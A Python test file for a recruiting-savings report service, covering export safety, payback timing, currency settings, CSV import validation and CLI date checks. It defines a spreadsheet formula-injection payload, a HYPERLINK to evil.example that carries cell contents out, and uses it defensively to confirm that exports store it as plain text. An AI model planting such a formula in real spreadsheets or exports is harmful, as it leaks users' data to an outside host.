"""What imported text and admins' changes cannot do to the savings figures and exports."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from portal.errors import ValidationError
from services.savings import export as savings_export
from services.savings import hires
from services.savings import report as savings
from services.savings import running_costs as programme
from services.savings.report import Assumptions, build_report
from tests.db.rows import HIRES_CSV_HEADER, hires_csv
from tests.support import portal_command

TODAY = date(2026, 3, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def report_with_department(department: str) -> savings.SavingsReport:
    groups = pd.DataFrame([{"month": date(2026, 1, 1), "source": "referral", "channel": "=2+3",
                            "department": department, "currency": "USD", "hires": 1,
                            "salary": 80000.0, "referral_bonus": 1000.0, "ad_spend": 0.0,
                            "job_board_fee": 0.0, "agency_fee": 0.0, "other_cost": 0.0}])
    costs = pd.DataFrame({"month": [date(2026, 1, 1)], "currency": ["USD"], "amount": [500.0]})
    return build_report(groups, costs, Assumptions(), date(2026, 1, 1), date(2026, 1, 31))


def test_exports_never_turn_imported_text_into_formulas_or_links():
    report = report_with_department(FORMULA)
    detail = savings_export.to_csv(report).decode("utf-8-sig")
    assert "'=HYPERLINK" in detail and "'=2+3" in detail
    assert savings_export.to_csv(report).startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    workbook = openpyxl.load_workbook(io.BytesIO(savings_export.to_xlsx(report)))
    cells = [cell for row in workbook["By department"].iter_rows() for cell in row
             if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)  # text, not a formula


def test_payback_waits_for_the_programme_to_spend_something():
    groups = pd.DataFrame([{"month": date(2026, m, 1), "source": "referral", "channel": "",
                            "department": "Eng", "currency": "USD", "hires": 1, "salary": 50000.0,
                            "referral_bonus": 0.0, "ad_spend": 0.0, "job_board_fee": 0.0,
                            "agency_fee": 0.0, "other_cost": 0.0} for m in (1, 2, 3)])
    # Savings of 10,000 a month from January; running costs start in March.
    costs = pd.DataFrame({"month": [date(2026, 3, 1)], "currency": ["USD"], "amount": [25000.0]})
    report = build_report(groups, costs, Assumptions(), date(2026, 1, 1), date(2026, 3, 31))
    assert report.payback_month == date(2026, 3, 1)


def test_changing_the_reporting_currency_removes_the_old_rates(people):
    programme.set_rate(people.admin, "EUR", 1.08)
    removed = programme.save_assumptions(people.admin, currency="EUR", fee_rate=0.2,
                                         job_board_cost_per_hire=4300)
    assert removed == ["EUR"]
    assert programme.assumptions(people.admin).rates == {}
    with pytest.raises(ValidationError, match="is the reporting currency"):
        programme.set_rate(people.admin, "EUR", 1.0)
    with pytest.raises(ValidationError, match="between"):
        programme.set_rate(people.admin, "USD", 1e12)
    # The same settings again remove nothing.
    programme.set_rate(people.admin, "USD", 0.93)
    assert programme.save_assumptions(people.admin, currency="EUR", fee_rate=0.25,
                                      job_board_cost_per_hire=4300) == []


def test_a_reimport_after_a_currency_change_adds_nothing(people):
    data = hires_csv("2026-01-15,Backend Engineer,Engineering,referral,90000,,2000,,,,,")
    assert hires.import_hires(people.recruiter, data, "a.csv", TODAY).added == 1
    programme.save_assumptions(people.admin, currency="EUR", fee_rate=0.2,
                               job_board_cost_per_hire=4300)
    assert hires.import_hires(people.recruiter, data, "a.csv", TODAY).already_imported == 1


@pytest.mark.parametrize("row,reason", [
    ("2026-01-15,Eng\x00ineer,Engineering,direct,90000,,,,,,,", "job_title contains control characters"),
    ("20260115,Engineer,Engineering,direct,90000,,,,,,,", "is not a date in the form YYYY-MM-DD"),
    ("0001-01-15,Engineer,Engineering,direct,90000,,,,,,,", "before 1900"),
])
def test_odd_rows_are_reported_and_the_good_ones_kept(people, row, reason):
    data = hires_csv("2026-01-15,Designer,Design,direct,60000,,,,,,,", row)
    result = hires.import_hires(people.recruiter, data, "odd.csv", TODAY)
    assert result.added == 1
    assert [p.row for p in result.problems] == [3] and reason in result.problems[0].reason


def test_files_that_cannot_be_read_are_refused_whole(people):
    with pytest.raises(ValidationError, match="names a column twice: source"):
        hires.parse_hires_csv(hires_csv("2026-01-15,a,b,direct,1,,,,,,,,direct",
                                       header=HIRES_CSV_HEADER + ",source"), "USD", TODAY)
    huge = hires_csv("2026-01-15," + "x" * 200_000 + ",Design,direct,1,,,,,,,")
    with pytest.raises(ValidationError, match="Row 2 cannot be read as CSV"):
        hires.parse_hires_csv(huge, "USD", TODAY)


def test_cli_refuses_dates_it_cannot_report_on():
    result = portal_command("report", "savings", "--from", "2026-01-01", "--to", "9999-12-31",
                     "--format", "csv")
    assert result.returncode == 2 and "between 1900 and 2100" in result.stderr
    assert "Traceback" not in result.stderr
